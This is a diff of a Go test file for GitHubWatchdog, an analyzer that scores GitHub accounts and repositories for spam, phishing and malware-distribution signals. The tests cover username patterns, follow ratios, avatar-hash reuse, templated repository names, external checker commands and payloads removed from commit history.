@@ -1,11 +1,24 @@
 package analyzer
 
 import (
+	"bytes"
 	"context"
 	"errors"
+	"fmt"
+	"image"
+	"image/color"
+	"image/png"
+	"math"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 
+	"github.com/arkouda/github/GitHubWatchdog/internal/github"
+	"github.com/arkouda/github/GitHubWatchdog/internal/github/githubtest"
 	"github.com/arkouda/github/GitHubWatchdog/internal/logger"
 	"github.com/arkouda/github/GitHubWatchdog/internal/models"
 )
@@ -47,7 +60,7 @@ func TestEvaluateUserHeuristicsSuppressesEstablishedContributors(t *testing.T) {
 	}
 	repos[0].StargazerCount = 15
 
-	results, suspicious := EvaluateUserHeuristics(data, repos)
+	results, suspicious := EvaluateUserHeuristics(data, repos, RepoThresholds{})
 	if suspicious {
 		t.Fatal("expected established contributor to avoid suspicious classification")
 	}
@@ -58,6 +71,85 @@ func TestEvaluateUserHeuristicsSuppressesEstablishedContributors(t *testing.T) {
 	}
 }
 
+func TestEvaluateUserHeuristicsHonorsRepoThresholds(t *testing.T) {
+	data := models.UserData{
+		CreatedAt:     time.Now().Add(-365 * 24 * time.Hour),
+		Contributions: 1,
+	}
+	var repos []models.RepoData
+	for _, name := range []string{"atlas", "beacon", "cinder", "delta", "ember"} {
+		repos = append(repos, models.RepoData{Name: name, DiskUsage: 2, StargazerCount: 6})
+	}
+
+	if _, suspicious := EvaluateUserHeuristics(data, repos, RepoThresholds{}); !suspicious {
+		t.Fatal("expected starred empty repositories to be suspicious under the default thresholds")
+	}
+	results, suspicious := EvaluateUserHeuristics(data, repos, RepoThresholds{SuspiciousEmptyStars: 10})
+	if suspicious {
+		t.Fatalf("expected a larger star threshold to clear the user, got %+v", results)
+	}
+	if _, suspicious := EvaluateUserHeuristics(data, repos, RepoThresholds{EmptySize: 1}); suspicious {
+		t.Fatal("expected a smaller size threshold to stop counting the repositories as empty")
+	}
+
+	var metrics []models.RepoMetrics
+	for _, repo := range repos {
+		metrics = append(metrics, models.RepoMetrics{Name: repo.Name, DiskUsage: repo.DiskUsage, StargazerCount: repo.StargazerCount})
+	}
+	mock := &mockGitHub{
+		users:  map[string]time.Time{"farmer": data.CreatedAt},
+		repos:  map[string][]models.RepoMetrics{"farmer": metrics},
+		events: map[string]int{"farmer": 1},
+	}
+	for _, tt := range []struct {
+		thresholds RepoThresholds
+		want       bool
+	}{
+		{RepoThresholds{}, true},
+		{RepoThresholds{SuspiciousEmptyStars: 10}, false},
+	} {
+		result, err := NewWithOptions(mock, Options{Thresholds: tt.thresholds, CommitSampleSize: -1}).AnalyzeUser(context.Background(), "farmer")
+		if err != nil {
+			t.Fatalf("AnalyzeUser() error = %v", err)
+		}
+		if result.Suspicious != tt.want {
+			t.Fatalf("AnalyzeUser() with %+v suspicious = %t, want %t", tt.thresholds, result.Suspicious, tt.want)
+		}
+	}
+}
+
+func TestUserTierGradesEveryCombination(t *testing.T) {
+	tests := []struct {
+		original, fresh, recent bool
+		want                    string
+	}{
+		{false, false, false, ""},
+		{true, false, false, models.SeverityLow},
+		{false, true, false, models.SeverityLow},
+		{false, false, true, models.SeverityLow},
+		{true, true, false, models.SeverityMedium},
+		{true, false, true, models.SeverityMedium},
+		{false, true, true, models.SeverityMedium},
+		{true, true, true, models.SeverityHigh},
+	}
+	for _, tt := range tests {
+		results := []models.HeuristicResult{
+			{Name: "OriginalHeuristic", Flag: tt.original},
+			{Name: "NewHeuristic", Flag: tt.fresh},
+			{Name: "RecentHeuristic", Flag: tt.recent},
+			{Name: "GeneratedPortfolioHeuristic", Flag: true},
+		}
+		if got := UserTier(results, DefaultTierHeuristics); got != tt.want {
+			t.Errorf("UserTier(original=%t, new=%t, recent=%t) = %q, want %q", tt.original, tt.fresh, tt.recent, got, tt.want)
+		}
+	}
+
+	results := []models.HeuristicResult{{Name: "NewHeuristic", Flag: true}, {Name: "RecentHeuristic", Flag: true}}
+	if got := UserTier(results, []string{"NewHeuristic", "RecentHeuristic"}); got != models.SeverityHigh {
+		t.Fatalf("UserTier() with configured heuristics = %q, want high", got)
+	}
+}
+
 func TestGeneratedPortfolioHeuristicFlagsRepeatedGeneratedNames(t *testing.T) {
 	data := models.UserData{
 		CreatedAt:     time.Now().Add(-7 * 24 * time.Hour),
@@ -71,7 +163,7 @@ func TestGeneratedPortfolioHeuristicFlagsRepeatedGeneratedNames(t *testing.T) {
 		{Name: "TaskManager-5002", DiskUsage: 3},
 	}
 
-	results, suspicious := EvaluateUserHeuristics(data, repos)
+	results, suspicious := EvaluateUserHeuristics(data, repos, RepoThresholds{})
 	if !suspicious {
 		t.Fatal("expected repeated generated naming patterns to be suspicious")
 	}
@@ -87,6 +179,311 @@ func TestGeneratedPortfolioHeuristicFlagsRepeatedGeneratedNames(t *testing.T) {
 	}
 }
 
+func TestUsernamePatternHeuristicMatchesConfiguredPatterns(t *testing.T) {
+	custom, err := CompileUsernamePatterns([]string{`^bot-[0-9]+$`})
+	if err != nil {
+		t.Fatalf("CompileUsernamePatterns() error = %v", err)
+	}
+	tests := []struct {
+		name          string
+		patterns      []*regexp.Regexp
+		username      string
+		contributions int
+		want          bool
+	}{
+		{"default pattern", nil, "mahas629", 0, true},
+		{"default pattern with contributions", nil, "pasha769", 40, false},
+		{"default pattern near miss", nil, "pasha769", 12, false},
+		{"ordinary login", nil, "octocat", 0, false},
+		{"configured pattern", custom, "bot-42", 1, true},
+		{"configured pattern replaces defaults", custom, "mahas629", 0, false},
+		{"empty list disables", []*regexp.Regexp{}, "mahas629", 0, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			h := &UsernamePatternHeuristic{Patterns: tt.patterns}
+			result := h.Evaluate(models.UserData{Username: tt.username, Contributions: tt.contributions}, nil)
+			if result.Flag != tt.want {
+				t.Fatalf("Evaluate(%q) flag = %t, want %t", tt.username, result.Flag, tt.want)
+			}
+			if result.Flag && !strings.Contains(result.Description, tt.username) {
+				t.Fatalf("Description = %q, want it to name the login", result.Description)
+			}
+			if nearMiss := tt.contributions > usernamePatternMaxContributions && tt.contributions <= usernamePatternNearMissContributions; nearMiss != (result.Score == nearMissScore) {
+				t.Fatalf("Evaluate(%q) score = %.1f, want a near miss %t", tt.username, result.Score, nearMiss)
+			}
+		})
+	}
+
+	if _, err := CompileUsernamePatterns([]string{"("}); err == nil {
+		t.Fatal("CompileUsernamePatterns() accepted an invalid pattern")
+	}
+}
+
+func TestFollowRatioHeuristic(t *testing.T) {
+	now := time.Now()
+	tests := []struct {
+		name      string
+		createdAt time.Time
+		followers int
+		following int
+		want      bool
+		score     float64
+	}{
+		{"new mass follower", now.AddDate(0, 0, -3), 1, 450, true, 0},
+		{"following at the limit", now.AddDate(0, 0, -3), 1, 200, false, nearMissScore},
+		{"following a hundred", now.AddDate(0, 0, -3), 1, 100, false, 0},
+		{"has followers", now.AddDate(0, 0, -3), 3, 450, false, 0},
+		{"established account", now.AddDate(0, 0, -60), 0, 450, false, 0},
+		{"unknown creation date", time.Time{}, 0, 450, false, 0},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			data := models.UserData{Username: "octocat", CreatedAt: tt.createdAt, Followers: tt.followers, Following: tt.following}
+			result := (&FollowRatioHeuristic{}).Evaluate(data, nil)
+			if result.Flag != tt.want {
+				t.Fatalf("Evaluate() flag = %t, want %t (%s)", result.Flag, tt.want, result.Description)
+			}
+			if result.Flag && !strings.Contains(result.Description, "follows 450 accounts") {
+				t.Fatalf("Description = %q, want the following count", result.Description)
+			}
+			if result.Score != tt.score {
+				t.Fatalf("Evaluate() score = %.1f, want %.1f", result.Score, tt.score)
+			}
+		})
+	}
+}
+
+func TestProfileSpamHeuristic(t *testing.T) {
+	tests := []struct {
+		name string
+		data models.UserData
+		want string
+	}{
+		{"giveaway bio", models.UserData{Bio: "Daily CRYPTO GIVEAWAY, DM me"}, `bio contains "crypto giveaway"`},
+		{"shortened blog", models.UserData{Blog: "https://bit.ly/3xYz"}, `blog contains "bit.ly/"`},
+		{"Twitter handle", models.UserData{TwitterUsername: "airdrop_hunter"}, `Twitter handle contains "airdrop"`},
+		{"profile README", models.UserData{ProfileReadme: "Earn passive income with my bot"}, `profile README contains "passive income"`},
+		{"ordinary profile", models.UserData{Bio: "Go developer", Blog: "https://example.dev", ProfileReadme: "Hi there"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := (&ProfileSpamHeuristic{}).Evaluate(tt.data, nil)
+			if result.Flag != (tt.want != "") {
+				t.Fatalf("Evaluate() flag = %t (%s), want %t", result.Flag, result.Description, tt.want != "")
+			}
+			if tt.want != "" && !strings.Contains(result.Description, tt.want) {
+				t.Fatalf("Description = %q, want %q", result.Description, tt.want)
+			}
+		})
+	}
+}
+
+func TestFetchUserDataReadsProfileReadme(t *testing.T) {
+	mock := &mockGitHub{
+		users: map[string]time.Time{"promo": time.Now().AddDate(-1, 0, 0)},
+		repos: map[string][]models.RepoMetrics{"promo": {
+			{Name: "tool", DiskUsage: 40},
+			{Name: "Promo", DiskUsage: 0},
+		}},
+		readmes: map[string]string{"promo/Promo": "Claim your reward at https://tinyurl.com/x"},
+	}
+	a := NewWithOptions(mock, Options{})
+	data, err := a.fetchUserData(context.Background(), "promo")
+	if err != nil {
+		t.Fatalf("fetchUserData() error = %v", err)
+	}
+	if data.ProfileReadme != mock.readmes["promo/Promo"] {
+		t.Fatalf("ProfileReadme = %q, want the promo/Promo README", data.ProfileReadme)
+	}
+}
+
+// encodeAvatar renders a size x size PNG whose gray level at each point is shade(x, y), with
+// coordinates scaled to the unit square so sizes of one pattern look alike.
+func encodeAvatar(t *testing.T, size int, shade func(x, y float64) uint8) []byte {
+	t.Helper()
+	img := image.NewRGBA(image.Rect(0, 0, size, size))
+	for y := 0; y < size; y++ {
+		for x := 0; x < size; x++ {
+			v := shade(float64(x)/float64(size), float64(y)/float64(size))
+			img.Set(x, y, color.RGBA{R: v, G: v, B: v, A: 255})
+		}
+	}
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, img); err != nil {
+		t.Fatalf("png.Encode() error = %v", err)
+	}
+	return buf.Bytes()
+}
+
+func waves(x, y float64) uint8 {
+	return uint8(128 + 100*math.Sin(x*9)*math.Cos(y*7))
+}
+
+func encodeIdenticon(t *testing.T) []byte {
+	t.Helper()
+	// The left three columns of the 5x5 pattern; the right two mirror them.
+	pattern := [5][3]bool{{true, false, true}, {false, true, true}, {true, true, false}, {false, false, true}, {true, false, false}}
+	img := image.NewRGBA(image.Rect(0, 0, 420, 420))
+	for y := 0; y < 420; y++ {
+		for x := 0; x < 420; x++ {
+			img.Set(x, y, color.RGBA{R: 240, G: 240, B: 240, A: 255})
+			col, row := (x-35)/70, (y-35)/70
+			if x < 35 || y < 35 || col > 4 || row > 4 {
+				continue
+			}
+			if col > 2 {
+				col = 4 - col
+			}
+			if pattern[row][col] {
+				img.Set(x, y, color.RGBA{R: 110, G: 190, B: 70, A: 255})
+			}
+		}
+	}
+	var buf bytes.Buffer
+	if err := png.Encode(&buf, img); err != nil {
+		t.Fatalf("png.Encode() error = %v", err)
+	}
+	return buf.Bytes()
+}
+
+func TestAvatarHash(t *testing.T) {
+	original, err := AvatarHash(encodeAvatar(t, 460, waves))
+	if err != nil {
+		t.Fatalf("AvatarHash() error = %v", err)
+	}
+	resized, err := AvatarHash(encodeAvatar(t, 120, waves))
+	if err != nil {
+		t.Fatalf("AvatarHash(resized) error = %v", err)
+	}
+	if d := AvatarDistance(original, resized); d > DefaultAvatarMaxDistance {
+		t.Fatalf("resized avatar is %d bits away, want at most %d", d, DefaultAvatarMaxDistance)
+	}
+	rotated, err := AvatarHash(encodeAvatar(t, 460, func(x, y float64) uint8 { return waves(y, x) }))
+	if err != nil {
+		t.Fatalf("AvatarHash(rotated) error = %v", err)
+	}
+	if d := AvatarDistance(original, rotated); d <= DefaultAvatarMaxDistance {
+		t.Fatalf("different avatar is only %d bits away", d)
+	}
+	if parsed, err := ParseAvatarHash(FormatAvatarHash(original)); err != nil || parsed != original {
+		t.Fatalf("ParseAvatarHash(FormatAvatarHash()) = %x, %v, want %x", parsed, err, original)
+	}
+
+	if _, err := AvatarHash(encodeIdenticon(t)); !errors.Is(err, ErrIdenticon) {
+		t.Fatalf("AvatarHash(identicon) error = %v, want ErrIdenticon", err)
+	}
+	if _, err := AvatarHash([]byte("not an image")); err == nil {
+		t.Fatal("AvatarHash() accepted a non-image")
+	}
+}
+
+type fakeAvatarHashes struct {
+	hash    uint64
+	flagged []string
+}
+
+func (f *fakeAvatarHashes) FindFlaggedUsersByAvatarHash(hash uint64, maxDistance int) ([]string, error) {
+	if AvatarDistance(hash, f.hash) > maxDistance {
+		return nil, nil
+	}
+	return f.flagged, nil
+}
+
+func TestAnalyzeUserFlagsSharedAvatars(t *testing.T) {
+	avatar := encodeAvatar(t, 200, waves)
+	hash, err := AvatarHash(avatar)
+	if err != nil {
+		t.Fatalf("AvatarHash() error = %v", err)
+	}
+	created := time.Now().AddDate(-2, 0, 0)
+	mock := &mockGitHub{
+		users:   map[string]time.Time{"sock": created, "lookalike": created, "plain": created},
+		repos:   map[string][]models.RepoMetrics{"sock": {{Name: "tool", DiskUsage: 40}}, "lookalike": {{Name: "tool", DiskUsage: 40}}, "plain": {{Name: "tool", DiskUsage: 40}}},
+		avatars: map[string][]byte{"sock": avatar, "lookalike": avatar, "plain": encodeIdenticon(t)},
+	}
+	lookup := &fakeAvatarHashes{hash: hash, flagged: []string{"bot-1", "bot-2", "lookalike", "sock"}}
+	a := NewWithOptions(mock, Options{AvatarHashes: lookup})
+
+	tests := []struct {
+		username string
+		flagged  bool
+		hash     string
+	}{
+		{"sock", true, FormatAvatarHash(hash)},
+		{"plain", false, ""},
+	}
+	for _, tt := range tests {
+		result, err := a.AnalyzeUser(context.Background(), tt.username)
+		if err != nil {
+			t.Fatalf("AnalyzeUser(%s) error = %v", tt.username, err)
+		}
+		if result.AvatarHash != tt.hash {
+			t.Fatalf("AnalyzeUser(%s) AvatarHash = %q, want %q", tt.username, result.AvatarHash, tt.hash)
+		}
+		var avatarResult models.HeuristicResult
+		for _, heuristic := range result.HeuristicResults {
+			if heuristic.Name == "AvatarReuseHeuristic" {
+				avatarResult = heuristic
+			}
+		}
+		if avatarResult.Flag != tt.flagged {
+			t.Fatalf("AnalyzeUser(%s) AvatarReuseHeuristic = %+v, want flag %t", tt.username, avatarResult, tt.flagged)
+		}
+		if tt.flagged && avatarResult.Description != "Avatar matches 3 flagged accounts: bot-1, bot-2, lookalike." {
+			t.Fatalf("Description = %q, want the other flagged accounts", avatarResult.Description)
+		}
+	}
+
+	disabled := NewWithOptions(mock, Options{AvatarHashes: lookup, DisabledHeuristics: []string{"AvatarReuseHeuristic"}})
+	if _, err := disabled.AnalyzeUser(context.Background(), "lookalike"); err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	if got := mock.calls["GetAvatar"]; got != 2 {
+		t.Fatalf("GetAvatar calls = %d, want none with the heuristic disabled", got)
+	}
+}
+
+func TestCamelCaseNumberHeuristic(t *testing.T) {
+	campaign := []models.RepoData{
+		{Name: "WeatherForecast-1409"},
+		{Name: "ImageProcessor-4888"},
+		{Name: "TaskManager-2211"},
+		{Name: "WeatherForecast-1410"},
+		{Name: "ImageProcessor-4889"},
+		{Name: "dotfiles"},
+	}
+	versions := []models.RepoData{
+		{Name: "Project-2021"},
+		{Name: "Project-2022"},
+		{Name: "Project-2023"},
+		{Name: "Project-2024"},
+		{Name: "Project-2025"},
+	}
+	tests := []struct {
+		name      string
+		threshold int
+		repos     []models.RepoData
+		want      bool
+	}{
+		{"campaign over default threshold", 0, campaign, true},
+		{"campaign within configured threshold", 5, campaign, false},
+		{"numbered versions of one project", 0, versions, false},
+		{"lowercase names", 0, []models.RepoData{{Name: "a-123"}, {Name: "b-456"}, {Name: "c-789"}, {Name: "d-012"}, {Name: "e-345"}}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := (&CamelCaseNumberHeuristic{Threshold: tt.threshold}).Evaluate(models.UserData{}, tt.repos)
+			if result.Flag != tt.want {
+				t.Fatalf("Evaluate() flag = %t, want %t (%s)", result.Flag, tt.want, result.Description)
+			}
+			if result.Flag && (!strings.Contains(result.Description, "TaskManager-2211") || strings.Contains(result.Description, "dotfiles")) {
+				t.Fatalf("Description = %q, want only the matching repository names", result.Description)
+			}
+		})
+	}
+}
+
 func TestEvaluateRepoHeuristicsFlagsGeneratedRepoSignals(t *testing.T) {
 	results := EvaluateRepoHeuristics(models.RepoData{
 		Name:        "WeatherForecast-1409",
@@ -125,3 +522,1955 @@ func TestEvaluateRepoHeuristicsFlagsPromotionSpamReadme(t *testing.T) {
 
 	t.Fatal("expected PromotionSpamReadmeHeuristic to flag incentive-driven README spam")
 }
+
+func TestSingleLanguageHeuristic(t *testing.T) {
+	tests := []struct {
+		name      string
+		tree      []string
+		languages map[string]int
+		want      bool
+	}{
+		{name: "one script", tree: []string{"run.ps1", "README.md"}, languages: map[string]int{"PowerShell": 5120}, want: true},
+		{name: "dominant language", tree: []string{"run.bat"}, languages: map[string]int{"Batchfile": 990, "PowerShell": 9}, want: true},
+		{name: "at the share", tree: []string{"run.bat"}, languages: map[string]int{"Batchfile": 98, "PowerShell": 2}},
+		{name: "three files", tree: []string{"main.py", "util.py", "README.md"}, languages: map[string]int{"Python": 4000}},
+		{name: "no languages", tree: []string{"README.md"}},
+		{name: "no tree", languages: map[string]int{"Python": 4000}},
+	}
+
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			result := (&SingleLanguageHeuristic{}).Evaluate(models.RepoData{TreeEntries: tc.tree, Languages: tc.languages})
+			if result.Flag != tc.want {
+				t.Fatalf("SingleLanguageHeuristic flag = %v (%s), want %v", result.Flag, result.Description, tc.want)
+			}
+		})
+	}
+}
+
+func TestExtractLinksDedupesAndTrimsPunctuation(t *testing.T) {
+	links := ExtractLinks("Download [here](https://bit.ly/abc). Mirror: http://files.example.com/x.zip, again https://bit.ly/abc")
+
+	if len(links) != 2 {
+		t.Fatalf("ExtractLinks() = %v, want 2 links", links)
+	}
+	if links[0] != "https://bit.ly/abc" || links[1] != "http://files.example.com/x.zip" {
+		t.Fatalf("ExtractLinks() = %v", links)
+	}
+}
+
+func TestExternalRepoCheckerFlagsWithEvidence(t *testing.T) {
+	checker := &ExternalRepoChecker{Command: ExternalCommand{
+		Path: "sh",
+		Args: []string{"-c", `grep -q '"name":"payload-drop"' && { echo "yara: loader_dropper"; exit 1; }; exit 0`},
+	}}
+
+	result, err := checker.Evaluate(context.Background(), models.RepoData{Owner: "alice", Name: "payload-drop"})
+	if err != nil {
+		t.Fatalf("Evaluate() error = %v", err)
+	}
+	if !result.Flag || result.Name != "ExternalCommandHeuristic" {
+		t.Fatalf("Evaluate() = %+v, want flagged external result", result)
+	}
+	if !strings.Contains(result.Description, "yara: loader_dropper") {
+		t.Fatalf("Evaluate() description = %q, want command output", result.Description)
+	}
+
+	flagged, err := checker.Check(context.Background(), models.RepoData{Owner: "alice", Name: "notes"})
+	if err != nil {
+		t.Fatalf("Check() error = %v", err)
+	}
+	if flagged {
+		t.Fatal("Check() = true, want clean verdict for exit status 0")
+	}
+}
+
+func TestExternalCommandErrorsAndTimeouts(t *testing.T) {
+	_, _, err := ExternalCommand{Path: "sh", Args: []string{"-c", "exit 2"}}.Run(context.Background(), nil)
+	if err == nil {
+		t.Fatal("Run() error = nil, want error for exit status 2")
+	}
+
+	start := time.Now()
+	_, _, err = ExternalCommand{Path: "sh", Args: []string{"-c", "sleep 5"}, Timeout: 100 * time.Millisecond}.Run(context.Background(), nil)
+	if err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Fatalf("Run() error = %v, want timeout", err)
+	}
+	if time.Since(start) > 3*time.Second {
+		t.Fatalf("Run() took %s, want bounded by timeout", time.Since(start))
+	}
+}
+
+func TestExternalUserHeuristicReceivesUsername(t *testing.T) {
+	heuristic := &ExternalUserHeuristic{Command: ExternalCommand{
+		Path: "sh",
+		Args: []string{"-c", `grep -q '"username":"mallory"' && { echo listed; exit 1; }; exit 0`},
+	}}
+
+	result := heuristic.Evaluate(models.UserData{Username: "mallory"}, nil)
+	if !result.Flag || !strings.Contains(result.Description, "listed") {
+		t.Fatalf("Evaluate() = %+v, want flagged result with evidence", result)
+	}
+}
+
+func TestAnalyzeUserCancelStopsExternalCommand(t *testing.T) {
+	client := &mockGitHub{users: map[string]time.Time{"mallory": time.Now().Add(-24 * time.Hour)}}
+	a := NewWithOptions(client, Options{ExternalCommand: &ExternalCommand{Path: "sleep", Args: []string{"30"}, Timeout: time.Minute}})
+	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	result, err := a.AnalyzeUser(ctx, "mallory")
+	if err != nil {
+		t.Fatalf("AnalyzeUser() error = %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Fatalf("AnalyzeUser() took %s, want the external command killed with the context", elapsed)
+	}
+	last := result.HeuristicResults[len(result.HeuristicResults)-1]
+	if last.Name != "ExternalCommandHeuristic" || last.Flag || !strings.Contains(last.Description, "failed") {
+		t.Fatalf("last result = %+v, want the external command's unflagged failure", last)
+	}
+}
+
+func TestTemplatedNamingHeuristic(t *testing.T) {
+	repoSet := func(names ...string) []models.RepoData {
+		repos := make([]models.RepoData, 0, len(names))
+		for _, name := range names {
+			repos = append(repos, models.RepoData{Name: name})
+		}
+		return repos
+	}
+
+	tests := []struct {
+		name      string
+		repos     []models.RepoData
+		threshold float64
+		want      bool
+	}{
+		{
+			name:  "sequential project names",
+			repos: repoSet("Project-1", "Project-2", "project-3", "Project-4", "Project-5", "dotfiles"),
+			want:  true,
+		},
+		{
+			name:  "templated infix numbers",
+			repos: repoSet("bot-v1-release", "bot-v2-release", "bot-v3-release", "bot-v4-release", "bot-v5-release"),
+			want:  true,
+		},
+		{
+			name:  "varied personal repos",
+			repos: repoSet("dotfiles", "blog", "aoc-2022", "aoc-2023", "neovim-config", "scratch", "homelab"),
+			want:  false,
+		},
+		{
+			name:  "too few matches",
+			repos: repoSet("demo-1", "demo-2", "demo-3"),
+			want:  false,
+		},
+		{
+			name:      "below configured threshold",
+			repos:     repoSet("Project-1", "Project-2", "Project-3", "Project-4", "Project-5", "a", "b", "c"),
+			threshold: 0.7,
+			want:      false,
+		},
+		{
+			name:      "above lowered threshold",
+			repos:     repoSet("Project-1", "Project-2", "Project-3", "Project-4", "Project-5", "a", "b", "c"),
+			threshold: 0.5,
+			want:      true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := (&TemplatedNamingHeuristic{Threshold: tt.threshold}).Evaluate(models.UserData{}, tt.repos)
+			if result.Flag != tt.want {
+				t.Fatalf("Evaluate() flag = %v, want %v (%s)", result.Flag, tt.want, result.Description)
+			}
+		})
+	}
+}
+
+type fakeIndicators map[string]string
+
+func (f fakeIndicators) LookupExternalIndicator(indicatorType, value string) (string, bool, error) {
+	source, ok := f[indicatorType+":"+value]
+	return source, ok, nil
+}
+
+func TestEvaluateRepoHeuristicsFlagsBlocklistedRepo(t *testing.T) {
+	a := &Analyzer{
+		logger:     logger.New(false),
+		indicators: fakeIndicators{"repo:evil/loader": "partner"},
+	}
+
+	results, err := a.EvaluateRepoHeuristics(context.Background(), models.RepoData{Owner: "evil", Name: "loader"})
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	last := results[len(results)-1]
+	if last.Name != "ExternalIndicatorHeuristic" || !last.Flag || last.Category != "Malware" || !strings.Contains(last.Description, "partner") {
+		t.Fatalf("EvaluateRepoHeuristics() last result = %+v, want blocklist flag citing partner", last)
+	}
+
+	results, err = a.EvaluateRepoHeuristics(context.Background(), models.RepoData{Owner: "clean", Name: "tool"})
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	for _, result := range results {
+		if result.Name == "ExternalIndicatorHeuristic" {
+			t.Fatalf("EvaluateRepoHeuristics() = %+v, want no blocklist flag for unlisted repo", results)
+		}
+	}
+}
+
+func TestDescriptionCheckerMatchesConfiguredRules(t *testing.T) {
+	repo := models.RepoData{Owner: "drop", Name: "claim", Description: "ETH Airdrop - claim your tokens, cracked wallet"}
+
+	matches := (&DescriptionChecker{}).Matches(repo)
+	if len(matches) != 2 || matches[0].Name != "CrackedSoftwareDescription" || matches[1].Name != "AirdropClaimDescription" || matches[1].Category != "Spam Behavior" {
+		t.Fatalf("Matches() = %+v, want the cracked and airdrop defaults", matches)
+	}
+
+	checker := &DescriptionChecker{Rules: []KeywordRule{{Name: "TokenDrop", Phrases: []string{"tokens", "claim"}, Category: "Phishing"}}}
+	matches = checker.Matches(repo)
+	if len(matches) != 1 || matches[0].Name != "TokenDrop" || matches[0].Description != `Description matches rule TokenDrop: "tokens", "claim".` {
+		t.Fatalf("Matches() = %+v, want only the configured rule", matches)
+	}
+
+	a := NewWithOptions(&mockGitHub{}, Options{DescriptionRules: []KeywordRule{}})
+	results, err := a.EvaluateRepoHeuristics(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	for _, result := range results {
+		if strings.HasSuffix(result.Name, "Description") {
+			t.Fatalf("EvaluateRepoHeuristics() = %+v, want the description check off with an empty rule list", results)
+		}
+	}
+
+	a = NewWithOptions(&mockGitHub{}, Options{DisabledHeuristics: []string{"DescriptionChecker"}})
+	results, err = a.EvaluateRepoHeuristics(context.Background(), repo)
+	if err != nil {
+		t.Fatalf("EvaluateRepoHeuristics() error = %v", err)
+	}
+	for _, result := range results {
+		if strings.HasSuffix(result.Name, "Description") {
+			t.Fatalf("EvaluateRepoHeuristics() = %+v, want the description check off when disabled", results)
+		}
+	}
+	if checkers, err := NewWithOptions(&mockGitHub{}, Options{}).CheckRepo(context.Background(), repo); err != nil || len(checkers) != 3 {
+		t.Fatalf("CheckRepo() = %+v, %v, want the description check left out of checker results", checkers, err)
+	}
+}
+
+func TestAnalyzerStatsCountsAnalysesAndCacheHits(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case strings.HasPrefix(r.URL.Path, "/users/ghost"):
+			http.NotFound(w, r)
+		case strings.HasSuffix(r.URL.Path, "/repos"), strings.HasSuffix(r.URL.Path, "/events/public"):
+			_, _ = w.Write([]byte(`[]`))
+		default:
+			_, _ = w.Write([]byte(`{"created_at":"2020-01-01T00:00:00Z"}`))
+		}
+	}))
+	defer server.Close()
+
+	client := github.NewClient("test-token", 0, 0, nil, logger.New(false))
+	t.Cleanup(client.Close)
+	client.SetBaseURL(server.URL)
+	a := NewWithOptions(client, Options{Indicators: fakeIndicators{"user:spammer": "partner"}})
+
+	for _, username := range []string{"alice", "spammer", "alice", "ghost", "spammer", "alice"} {
+		_, _ = a.AnalyzeUser(context.Background(), username)
+	}
+
+	want := Stats{Analyzed: 2, Flagged: 1, CacheHits: 3, Errored: 1}
+	if got := a.Stats(); got != want {
+		t.Fatalf("Stats() = %+v, want %+v", got, want)
+	}
+}
+
+func TestHistoricalPayloadsFindsRemovedArchives(t *testing.T) {
+	// Newest first: the loader is added, replaced by a clean README, and deleted.
+	commits := []models.Commit{
+		{SHA: "c4", Files: []models.CommitFile{{Filename: "README.md", Status: "modified"}}},
+		{SHA: "c3", Files: []models.CommitFile{{Filename: "Loader.ZIP", Status: "removed"}, {Filename: "dist/tool.exe", Status: "removed"}}},
+		{SHA: "c2", Files: []models.CommitFile{{Filename: "dist/tool.exe", Status: "added"}, {Filename: "assets/logo.png", Status: "added"}}},
+		{SHA: "c1", Files: []models.CommitFile{{Filename: "Loader.ZIP", Status: "added"}, {Filename: "release.zip", Status: "added"}}},
+	}
+	tree := []string{"README.md", "assets/logo.png", "release.zip"}
+
+	got := HistoricalPayloads(commits, tree)
+	if strings.Join(got, ",") != "Loader.ZIP,dist/tool.exe" {
+		t.Fatalf("HistoricalPayloads() = %v, want removed payloads in the order added", got)
+	}
+	if got := HistoricalPayloads(commits, append(tree, "Loader.ZIP", "dist/tool.exe")); len(got) != 0 {
+		t.Fatalf("HistoricalPayloads() = %v, want none when payloads remain in the tree", got)
+	}
+}
+
+func TestHistoryCheckerFlagsPayloadRemovedFromTree(t *testing.T) {
+	server := githubtest.NewServer(t)
+	server.HandleJSON("/repos/evil/tool/commits", []map[string]string{{"sha": "b2"}, {"sha": "a1"}})
+	server.HandleJSON("/repos/evil/tool/commits/b2", map[string]interface{}{"files": []map[string]string{{"filename": "loader.rar", "status": "removed"}}})
+	server.HandleJSON("/repos/evil/tool/commits/a1", map[string]interface{}{"files": []map[string]string{{"filename": "loader.rar", "status": "added"}}})
+	client := github.NewClient("token", 0, 60, nil, logger.New(false))
+	t.Cleanup(client.Close)
+	client.SetBaseURL(server.URL)
+
+	a := NewWithOptions(client, Options{HistoryCommits: 5})
+	result, enabled, err := a.CheckHistory(context.Background(), models.RepoData{Owner: "evil", Name: "tool", TreeEntries: []string{"README.md"}}, "main")
+	if err != nil || !enabled {
+		t.Fatalf("CheckHistory() enabled = %v, err = %v", enabled, err)
+	}
+	if !result.Flag || !strings.Contains(result.Description, "loader.rar") {
+		t.Fatalf("CheckHistory() = %+v, want loader.rar flagged", result)
+	}
+	if got := server.Requests()[0].Query.Get("per_page"); got != "5" {
+		t.Fatalf("commit listing per_page = %q, want 5", got)
+	}
+
